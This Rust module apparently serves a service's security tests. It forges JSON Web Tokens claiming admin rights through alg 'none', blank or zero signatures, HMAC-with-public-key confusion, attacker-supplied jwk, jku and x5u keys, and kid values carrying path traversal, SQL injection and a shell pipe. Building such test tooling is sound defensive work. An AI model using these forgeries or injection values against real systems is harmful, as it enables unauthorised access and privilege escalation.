//! Access tokens as somebody forges them who has one of their own and the published keys; never asks.
//!
//! Keys and signatures are made by another library than the service uses.

use anyhow::{Context, Result, bail, ensure};
use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use hmac::{Hmac, Mac};
use p256::ecdsa::signature::{Signer, Verifier};
use p256::ecdsa::{Signature, SigningKey, VerifyingKey};
use serde_json::{Value, json};
use sha2::Sha256;

const SPKI: [u8; 26] = [
    0x30, 0x59, 0x30, 0x13, 0x06, 0x07, 0x2a, 0x86, 0x48, 0xce, 0x3d, 0x02, 0x01, 0x06, 0x08, 0x2a, 0x86,
    0x48, 0xce, 0x3d, 0x03, 0x01, 0x07, 0x03, 0x42, 0x00,
];

/// A token, taken apart.
struct Parts {
    header: Value,
    claims: Value,
    signature: String,
}

/// Tokens that claim more than `good`, which somebody really has, made by one trick. `keys` are the published ones, and
/// `elsewhere` a URL that the forger can read the requests of.
///
/// # Errors
/// When `good` is no token of these keys, or nobody knows the trick.
pub fn forge(trick: &str, good: &str, keys: &Value, elsewhere: &str) -> Result<Vec<String>> {
    let Parts {
        header,
        claims,
        signature,
    } = Parts::of(good)?;
    let mut more = claims;
    more["admin"] = json!(true);
    more["scope"] = json!("profile wishes users:read users:write audit:read tokens:introspect");
    let unsigned = |header: &Value| format!("{}.{}", encode(header), encode(&more));
    let with = |member: &str, value: Value| {
        let mut header = header.clone();
        header[member] = value;
        header
    };
    let mine = SigningKey::from_slice(&chance_bytes())?;
    let signed = |header: &Value| sign(&mine, &unsigned(header));
    Ok(match trick {
        "changing what it says" => vec![format!("{}.{signature}", unsigned(&header))],
        "signing with another key" => vec![signed(&header)],
        "leaving the signature blank" => {
            let zeros = URL_SAFE_NO_PAD.encode([0_u8; 64]);
            // r and s both 0: once good in every signature check that forgot to look (CVE-2022-21449).
            ["", zeros.as_str(), "AA", "MAYCAQACAQA"]
                .map(|blank| format!("{}.{blank}", unsigned(&header)))
                .to_vec()
        }
        "naming no algorithm" => ["none", "None", "NONE", "nOnE", ""]
            .into_iter()
            .map(|name| unsigned(&with("alg", json!(name))))
            .flat_map(|text| [format!("{text}."), format!("{text}.{signature}"), text])
            .collect(),
        "signing by HMAC with the public key" => {
            let header = with("alg", json!("HS256"));
            spellings(&published(keys, &header)?)?
                .iter()
                .map(|key| hmac(key, &unsigned(&header)))
                .collect::<Result<_>>()?
        }
        "naming another algorithm" => [
            "RS256", "PS256", "ES384", "ES512", "EdDSA", "HS512", "ES256K", "es256",
        ]
        .map(|name| format!("{}.{signature}", unsigned(&with("alg", json!(name)))))
        .to_vec(),
        "bringing its own key (jwk)" => {
            let key = json!({ "kty": "EC", "crv": "P-256", "x": x_and_y(&mine)?.0, "y": x_and_y(&mine)?.1 });
            let mut named = key.clone();
            named["kid"] = header["kid"].clone();
            vec![signed(&with("jwk", key)), signed(&with("jwk", named))]
        }
        "pointing to its own key (jku, x5u)" => ["jku", "x5u"]
            .map(|field| signed(&with(field, json!(elsewhere))))
            .to_vec(),
        "a name of a key that leads elsewhere (kid)" => {
            let mut forged = Vec::new();
            for kid in [
                "../../../../../../../../dev/null",
                "/dev/null",
                "....//....//....//....//dev/null",
                "file:///dev/null",
                elsewhere,
                "' UNION SELECT 'AA",
                "x'; SELECT pg_sleep(9)--",
                "|/usr/bin/true",
                "0",
                "",
            ] {
                forged.push(signed(&with("kid", json!(kid))));
                let mut header = with("kid", json!(kid));
                header["alg"] = json!("HS256");
                // What reading such a file, or such a row, would give as the key.
                forged.push(hmac(b"", &unsigned(&header))?);
                forged.push(hmac(b"AA", &unsigned(&header))?);
            }
            forged
        }
        "breaking its form" => vec![
            good.replace('.', ""),
            good.replacen('.', "..", 1),
            format!("{good}.{signature}"),
            format!(".{good}"),
            good.split_once('.')
                .map(|(head, _)| head.to_owned())
                .unwrap_or_default(),
            format!("{}.{}.", encode(&header), encode(&json!([]))),
            format!("bm90IGpzb24.{}.{signature}", encode(&more)),
            format!("{}.bm90IGpzb24.{signature}", encode(&header)),
            "a".repeat(9_000),
            STANDARD.encode(unsigned(&header)),
        ],
        _ => bail!("nobody knows the trick {trick:?}"),
    })
}

/// Whether a published key made the token's signature, by a library that the service does not use; the claims.
///
/// # Errors
/// When it did not.
pub fn verify(token: &str, keys: &Value) -> Result<Value> {
    let Parts {
        header,
        claims,
        signature,
    } = Parts::of(token)?;
    let key = published(keys, &header)?;
    let signature = Signature::from_slice(&URL_SAFE_NO_PAD.decode(signature)?)?;
    let (signed, _) = token.rsplit_once('.').context("no token")?;
    key.verify(signed.as_bytes(), &signature)
        .context("no published key made this signature")?;
    Ok(claims)
}

/// What a token says, whoever signed it.
///
/// # Errors
/// When it is none.
pub fn claims(token: &str) -> Result<Value> {
    Ok(Parts::of(token)?.claims)
}

/// The header of a token.
///
/// # Errors
/// When it is none.
pub fn header(token: &str) -> Result<Value> {
    Ok(Parts::of(token)?.header)
}

impl Parts {
    fn of(token: &str) -> Result<Self> {
        let parts: Vec<&str> = token.split('.').collect();
        let [header, claims, signature] = parts.as_slice() else {
            bail!("no token: {} parts", parts.len());
        };
        let read =
            |part: &str| Ok::<Value, anyhow::Error>(serde_json::from_slice(&URL_SAFE_NO_PAD.decode(part)?)?);
        Ok(Self {
            header: read(header)?,
            claims: read(claims)?,
            signature: (*signature).to_owned(),
        })
    }
}

/// The published key that a header names.
fn published(keys: &Value, header: &Value) -> Result<VerifyingKey> {
    let keys = keys["keys"].as_array().context("no keys are published")?;
    let key = keys.iter().find(|key| key["kid"] == header["kid"]);
    let key = key.context("the key that the token names is not published")?;
    ensure!(key["kty"] == "EC" && key["crv"] == "P-256", "not on P-256: {key}");
    ensure!(key.get("d").is_none(), "a private key is published");
    let coordinate =
        |name: &str| Ok::<_, anyhow::Error>(URL_SAFE_NO_PAD.decode(key[name].as_str().unwrap_or_default())?);
    let point = [vec![4], coordinate("x")?, coordinate("y")?].concat();
    Ok(VerifyingKey::from_sec1_bytes(&point)?)
}

/// The bytes that careless verifiers have taken for the public key.
fn spellings(key: &VerifyingKey) -> Result<Vec<Vec<u8>>> {
    let point = key.to_encoded_point(false);
    // SubjectPublicKeyInfo of a point on P-256 (RFC 5480 §2): the same bytes before every point.
    let der = [SPKI.as_slice(), point.as_bytes()].concat();
    let text = STANDARD.encode(&der);
    let lines: Vec<&str> = [text.get(..64), text.get(64..)].into_iter().flatten().collect();
    let pem = format!(
        "-----BEGIN PUBLIC KEY-----\n{}\n-----END PUBLIC KEY-----",
        lines.join("\n")
    );
    let (x, y) = (
        point.x().context("no x")?.to_vec(),
        point.y().context("no y")?.to_vec(),
    );
    let jwk = json!({ "kty": "EC", "crv": "P-256", "x": URL_SAFE_NO_PAD.encode(&x), "y": URL_SAFE_NO_PAD.encode(&y) });
    Ok(vec![
        format!("{pem}\n").into_bytes(),
        pem.into_bytes(),
        text.into_bytes(),
        der,
        point.as_bytes().to_vec(),
        [x.clone(), y].concat(),
        URL_SAFE_NO_PAD.encode(&x).into_bytes(),
        x,
        jwk.to_string().into_bytes(),
    ])
}

fn x_and_y(key: &SigningKey) -> Result<(String, String)> {
    let point = key.verifying_key().to_encoded_point(false);
    let text =
        |part: Option<&p256::FieldBytes>| part.map(|part| URL_SAFE_NO_PAD.encode(part)).context("no point");
    Ok((text(point.x())?, text(point.y())?))
}

fn sign(key: &SigningKey, unsigned: &str) -> String {
    let signature: Signature = key.sign(unsigned.as_bytes());
    format!("{unsigned}.{}", URL_SAFE_NO_PAD.encode(signature.to_bytes()))
}

fn hmac(key: &[u8], unsigned: &str) -> Result<String> {
    let mut mac = Hmac::<Sha256>::new_from_slice(key)?;
    mac.update(unsigned.as_bytes());
    Ok(format!(
        "{unsigned}.{}",
        URL_SAFE_NO_PAD.encode(mac.finalize().into_bytes())
    ))
}

fn encode(part: &Value) -> String {
    URL_SAFE_NO_PAD.encode(part.to_string())
}

/// A private key by chance: below the order of the curve, whose first bytes are all ones.
fn chance_bytes() -> [u8; 32] {
    let mut bytes = [7_u8; 32];
    bytes[1..9].copy_from_slice(&crate::client::chance().to_be_bytes());
    bytes[9..17].copy_from_slice(&crate::client::chance().to_be_bytes());
    bytes
}
